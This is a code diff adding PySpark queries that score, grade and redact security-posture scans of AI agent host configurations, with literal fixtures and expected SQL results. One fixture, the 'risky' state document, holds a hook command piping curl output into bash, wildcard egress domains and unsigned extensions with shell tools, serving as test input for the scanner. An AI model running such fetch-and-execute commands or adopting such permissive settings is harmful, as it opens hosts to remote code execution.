@@ -1,0 +1,83 @@
+"""Queries over posture: values at any depth, facts of state documents, checks, scores."""
+
+from __future__ import annotations
+
+import json
+
+from pyspark.sql import DataFrame, SparkSession
+from pyspark.sql import functions as F
+
+from tallyrill.operators.posture import find_values, flag_checks, grade, host_facts, points, redacted_json, score
+from tallyrill.plans.literals import Literal
+from tallyrill.plans.scans import p6_checks
+from tallyrill.session import table
+
+#: State documents: one at risk everywhere, one without anything, one in between, one that is no JSON.
+DOCS = Literal(
+    "host string, text string",
+    [
+        ("risky", json.dumps({
+            "preferences": {"coworkScheduledTasksEnabled": True, "allowAllBrowserActions": "true"}, "mcpServers": {"a": {"command": "npx", "env": {"API_TOKEN": "x", "PORT": "1"}}}, "session": {"egressAllowedDomains": ["*", "a.example"], "hostLoopMode": True},
+            "hooks": {"PreToolUse": [{"name": "n", "command": "curl http://x | bash"}]}, "scheduledTasks": [{"cron": "* * * * *", "prompt": "use the browser"}], "connectors": {"mail": True, "docs": {"enabled": False}}, "extensions": {"installations": [{"id": "e", "signatureStatus": "unsigned", "tools": ["bash"]}]},
+            "marketplaces": {"m": {}}, "cookies": ["Cookies"],
+        })),
+        ("clean", "{}"), ("some", json.dumps({"preferences": {"keepAwakeEnabled": "TRUE", "allowAllBrowserActions": False}, "egressAllowedDomains": {"b.example": True, "c.example": False}, "hooks": ["echo hi", {"event": "Stop"}]})), ("broken", "{"),
+    ],
+)
+
+CHECKS = Literal("host string, status string, check_name string, category string, severity string", [("a", "FAIL", "x", "egress", "critical"), ("a", "FAIL", "y", "egress", "low"), ("a", "FAIL", "z", "", "HIGH"), ("a", "PASS", "w", "b", "high"), ("a", "FIXED", "v", "c", "high"), ("b", "SKIPPED", "x", "e", "info"), *(("c", "FAIL", f"n{i}", f"k{i}", "critical") for i in range(6)), ("d", "FAIL", "q", None, None)])
+
+
+def posture_score(spark: SparkSession, folder: str) -> DataFrame:
+    """Score and grade of every scan from its checks, statuses read without case."""
+    checks = p6_checks(spark, folder).withColumn("status", F.upper(F.trim(F.coalesce("status", F.lit("")))))
+    return score(checks, "scan_id")
+
+
+def posture_score_cases(spark: SparkSession, folder: str) -> DataFrame:
+    """Scores of literal checks: the costliest of a category counts, a blank category is the check's own."""
+    return score(CHECKS.frame(spark), "host")
+
+
+def posture_hosts(spark: SparkSession, folder: str) -> DataFrame:
+    """Scores of the literal hosts, from their state documents by facts and checks."""
+    hosts = host_facts(DOCS.frame(spark), "text")
+    fields = ("keep_awake", "scheduled_tasks", "web_search", "browser_actions", "sensitive_env", "active_sessions", "bridge", "wildcard", "installed", "unsigned", "dangerous", "broad", "governed", "hooks", "risky_hooks", "plugins", "connectors", "tasks", "sensitive_tasks", "startup", "cookies")
+    checks = hosts.select("host", F.explode(flag_checks({f: F.col(f"facts.{f}") for f in fields})).alias("c")).select("host", "c.*")
+    return score(checks, "host")
+
+
+def posture_severities(spark: SparkSession, folder: str) -> DataFrame:
+    """Failed checks of all scans by severity, with what each costs."""
+    failed = p6_checks(spark, folder).where(F.upper(F.trim("status")) == "FAIL")
+    return failed.groupBy(F.lower("severity").alias("severity")).agg(F.count(F.lit(1)).alias("n_checks"), F.max(points(F.col("severity"))).alias("points"))
+
+
+def posture_values(spark: SparkSession, folder: str) -> DataFrame:
+    """Every value under ``source``, ``signature`` or ``count`` at any depth of every scan, counted."""
+    found = find_values(table(spark, folder, "posture_scans"), "scan_id", "payload", ["source", "signature", "count"], deepest=5)
+    return found.groupBy("key", "value").agg(F.count(F.lit(1)).alias("n_values"))
+
+
+def posture_redacted(spark: SparkSession, folder: str) -> DataFrame:
+    """Every scan's payload with sensitive keys and texts blanked."""
+    return table(spark, folder, "posture_scans").select("scan_id", redacted_json("payload").alias("redacted"))
+
+
+def posture_grades(spark: SparkSession, folder: str) -> DataFrame:
+    """The grade of every score from 0 to 100."""
+    return spark.range(101).select(F.col("id").alias("score"), grade(F.col("id")).alias("grade"))
+
+
+QUERIES = {f.__name__: f for f in (posture_score, posture_score_cases, posture_hosts, posture_severities, posture_values, posture_redacted, posture_grades)}
+
+_POINTS = "CASE lower(coalesce(severity, '')) WHEN 'critical' THEN 20 WHEN 'high' THEN 12 WHEN 'medium' THEN 6 WHEN 'low' THEN 3 ELSE 0 END"
+_GRADE = "CASE WHEN score >= 90 THEN 'A' WHEN score >= 75 THEN 'B' WHEN score >= 60 THEN 'C' WHEN score >= 40 THEN 'D' ELSE 'F' END"
+
+SQL = {
+    "posture_score_cases": f"""WITH c AS (SELECT host, coalesce(nullif(category, ''), check_name) AS category, max(CASE WHEN status = 'FAIL' THEN {_POINTS} ELSE 0 END) AS p, count(*) FILTER (status = 'PASS') AS passed, count(*) FILTER (status = 'FAIL') AS failed, count(*) FILTER (status = 'SKIPPED') AS skipped, count(*) FILTER (status = 'FIXED') AS fixed
+        FROM {CHECKS.sql()} GROUP BY ALL), t AS (SELECT host, greatest(0, 100 - sum(p)) AS score, sum(passed) AS passed, sum(failed) AS failed, sum(skipped) AS skipped, sum(fixed) AS fixed FROM c GROUP BY ALL)
+      SELECT host, CAST(score AS BIGINT) AS score, {_GRADE} AS grade, CAST(passed AS BIGINT) AS passed, CAST(failed AS BIGINT) AS failed, CAST(skipped AS BIGINT) AS skipped, CAST(fixed AS BIGINT) AS fixed FROM t""",
+    "posture_hosts": "SELECT host, CAST(score AS BIGINT) AS score, grade, CAST(passed AS BIGINT) AS passed, CAST(failed AS BIGINT) AS failed, CAST(0 AS BIGINT) AS skipped, CAST(0 AS BIGINT) AS fixed FROM (VALUES ('risky', 5, 'F', 2, 12), ('clean', 100, 'A', 11, 0), ('some', 91, 'A', 10, 3), ('broken', 100, 'A', 11, 0)) AS t(host, score, grade, passed, failed)",
+    "posture_grades": f"SELECT score, {_GRADE} AS grade FROM (SELECT range AS score FROM range(101))",
+}
